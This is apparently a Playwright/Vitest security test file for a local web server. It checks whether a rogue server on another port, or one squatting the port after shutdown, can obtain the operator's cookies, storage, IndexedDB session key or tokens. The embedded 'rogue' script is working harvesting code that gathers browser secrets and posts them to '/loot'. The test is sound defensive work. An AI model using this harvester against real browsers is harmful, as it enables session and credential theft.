/**
 * What another user's servers get from the operator's browser, in which the served pages are open: on another port of
 * the host, and on theirs later.
 */
import { existsSync } from 'node:fs'
import { resolve } from 'node:path'
import { chromium, type Browser, type BrowserContext, type Page } from '@playwright/test'
import { afterAll, afterEach, beforeAll, beforeEach, expect, it } from 'vitest'
import { describeWhere } from '../../support/requires'
import { canMakeUsers, secondUser, whyNoUsers, type SecondUser } from '../../support/second-user'
import { builtCli } from '../cli/cli'
import { signIn, startServer, tokenIn, type Session, type TestServer } from '../serve/server'

const program = '/usr/bin/chromium'

/**
 * Listens at a port and prints, line by line, what it gets: headers of requests, what its page finds in the browser,
 * and messages of WebSockets, which it greets as a server of ours would. Its page also tries the pages at `target`.
 */
const rogue = `
  import { createServer } from 'node:http'
  import { createHash } from 'node:crypto'
  const [port, target] = process.argv.slice(2).map(Number)
  const print = (kind, data) => console.log(JSON.stringify({ kind, data }))
  const page = '<!doctype html><title>rogue</title><script>(' + String(async target => {
    const found = { cookie: document.cookie, storage: { ...localStorage, ...sessionStorage }, referrer: document.referrer, hash: location.hash }
    found.opened = await new Promise(done => {
      const socket = new WebSocket('ws://127.0.0.1:' + target + '/api')
      socket.onmessage = ({ data }) => done(data)
      socket.onerror = () => done('refused')
    })
    found.page = await fetch('http://127.0.0.1:' + target + '/', { credentials: 'include' }).then(it => it.text(), () => 'refused')
    found.key = await new Promise(done => {
      const opening = indexedDB.open('session')
      opening.onsuccess = () => {
        const database = opening.result
        if (!database.objectStoreNames.contains('session')) return done('none')
        const asked = database.transaction('session').objectStore('session').get('session')
        asked.onsuccess = () => crypto.subtle.exportKey('raw', asked.result.key).then(() => done('read'), it => done(it.name))
      }
    })
    await fetch('/loot', { method: 'POST', body: JSON.stringify(found) })
  }) + ')(' + target + ')</script>'
  const server = createServer((request, response) => {
    print('headers', request.headers)
    if (request.url !== '/loot') return response.setHeader('content-type', 'text/html').end(page)
    let body = ''
    request.on('data', chunk => { body += chunk }).on('end', () => { print('loot', JSON.parse(body)); response.end() })
  })
  server.on('upgrade', (request, stream) => {
    print('headers', request.headers)
    const accept = createHash('sha1').update(request.headers['sec-websocket-key'] + '258EAFA5-E914-47DA-95CA-C5AB0DC85B11').digest('base64')
    stream.write('HTTP/1.1 101 Switching Protocols\\r\\nUpgrade: websocket\\r\\nConnection: Upgrade\\r\\nSec-WebSocket-Accept: ' + accept + '\\r\\n\\r\\n')
    const greeting = JSON.stringify({ nonce: 'a'.repeat(64) })
    stream.write(Buffer.concat([Buffer.from([0x81, greeting.length]), Buffer.from(greeting)]))
    stream.on('data', frame => {
      if ((frame[0] & 15) !== 1) return
      const [at, length] = (frame[1] & 127) === 126 ? [4, frame.readUInt16BE(2)] : [2, frame[1] & 127]
      print('message', JSON.parse(frame.subarray(at + 4, at + 4 + length).map((byte, index) => byte ^ frame[at + index % 4]).toString()))
    })
    stream.on('error', () => undefined)
  })
  server.listen(port, process.argv[4], () => print('port', server.address().port))`

interface Loot {
  readonly cookie: string
  readonly storage: Readonly<Record<string, string>>
  readonly referrer: string
  readonly hash: string
  readonly opened: string
  readonly page: string
  /** Of the session: `none`, `read`, or why it couldn't be read. */
  readonly key: string
}
interface Printed {
  readonly kind: 'port' | 'headers' | 'message' | 'loot'
  readonly data: unknown
}

describeWhere(
  canMakeUsers && existsSync(program),
  canMakeUsers ? 'Chromium is not installed (apt-get install chromium)' : whyNoUsers,
)('servers of another user, in the operator’s browser', () => {
  let other: SecondUser
  let browser: Browser
  let context: BrowserContext
  let server: TestServer
  let link: string
  let page: Page
  let session: Session

  beforeAll(async () => {
    await builtCli()
    other = await secondUser()
    browser = await chromium.launch({ executablePath: program, chromiumSandbox: false }) // as root it has none
  })
  afterAll(async () => {
    await browser.close()
    await other.remove()
  })
  beforeEach(async () => {
    server = await startServer({ root: resolve(import.meta.dirname, '../../..') })
    context = await browser.newContext()
    page = await context.newPage()
    link = server.link()
    const welcomed = welcome(page)
    await page.goto(link)
    await page.getByRole('heading', { name: 'Choose a workspace' }).waitFor()
    session = await welcomed
  })
  afterEach(async () => {
    await context.close()
    await server.remove()
  })

  /** What the page is told once, when it signs in. */
  const welcome = (of: Page): Promise<Session> =>
    new Promise(done => {
      of.once('websocket', socket =>
        socket.on('framereceived', ({ payload }) => {
          if (!String(payload).includes('"key"')) return
          const { session: id, key } = JSON.parse(String(payload)) as { session: string; key: string }
          done({ id, key })
        }),
      )
    })

  /** What a rogue gets until its page reports. */
  async function starts(port: number, address = '127.0.0.1') {
    const running = other.start(rogue, String(port), String(server.port), address)
    const next = async (): Promise<Printed> => JSON.parse(await running.line()) as Printed
    return {
      running,
      port: (await next()).data as number,
      async until(kind: Printed['kind']): Promise<{ readonly all: readonly Printed[]; readonly last: unknown }> {
        const all: Printed[] = []
        do all.push(await next())
        while (all.at(-1)?.kind !== kind)
        return { all, last: all.at(-1)?.data }
      },
    }
  }

  it('another port of the host, a stranger’s or an instance’s, gets no cookie, no session, no referrer, and opens nothing', async () => {
    const elsewhere = await starts(0)
    for (const visit of [
      async () => {
        await (await context.newPage()).goto(`http://127.0.0.1:${elsewhere.port}/`)
      },
      async () => {
        await page.evaluate(to => {
          location.href = to
        }, `http://127.0.0.1:${elsewhere.port}/`)
      }, // from our page itself
    ]) {
      await visit()
      const { all, last } = await elsewhere.until('loot')
      expect(last).toEqual({
        cookie: '',
        storage: {},
        referrer: '',
        hash: '',
        opened: 'refused',
        page: 'refused',
        key: 'none',
      } satisfies Loot)
      expect(JSON.stringify(all)).not.toContain(session.key)
      expect(JSON.stringify(all)).not.toContain(tokenIn(link))
      for (const { data } of all.filter(it => it.kind === 'headers')) expect(data).not.toHaveProperty('cookie')
      for (const { data } of all.filter(it => it.kind === 'headers'))
        expect(JSON.stringify(data)).not.toContain(`:${server.port}`)
    }
  })

  it('our port on ::1, which browsers try first for `localhost`: no session was ever kept for that name', async () => {
    await page.goto(server.link().replace('127.0.0.1', 'localhost'))
    await page.getByRole('heading', { name: 'Choose a workspace' }).waitFor()
    const stranger = await starts(server.port, '::1')
    // with no connection to 127.0.0.1 left open
    const later = await browser.newContext({ storageState: await context.storageState() })
    await (await later.newPage()).goto(`http://localhost:${server.port}/`)
    expect((await stranger.until('loot')).last).toEqual({
      cookie: '',
      storage: {},
      referrer: '',
      hash: '',
      opened: 'refused',
      page: 'refused',
      key: 'none',
    } satisfies Loot)
    await later.close()
  })

  it('their port, after the server has ended: the open page says nothing but a useless proof; what a reload finds opens nothing, ever', async () => {
    const { port } = server
    await server.close()
    const successor = await starts(port)
    const { all, last } = await successor.until('message')
    expect(last).toEqual({
      session: session.id,
      nonce: expect.any(String) as string,
      proof: expect.any(String) as string,
    })
    expect(JSON.stringify(all)).not.toContain(session.key)

    await page.reload() // now it is the rogue's page, in the origin that ours had
    const { last: loot } = await successor.until('loot')
    expect((loot as Loot).cookie).toBe('')
    expect(JSON.stringify(loot)).not.toContain(session.key)
    expect((loot as Loot).key).toBe('InvalidAccessError') // there is one, which can't be read
    await successor.running.stop()

    const next = await startServer({ port })
    expect(next.port).toBe(port)
    // even had they read everything on the wire
    for (const attempt of [session, last as object, { token: session.key }, { token: tokenIn(link) }])
      expect(await signIn(next.socket(), attempt)).toBe(4401)
    await next.remove()
  })
})
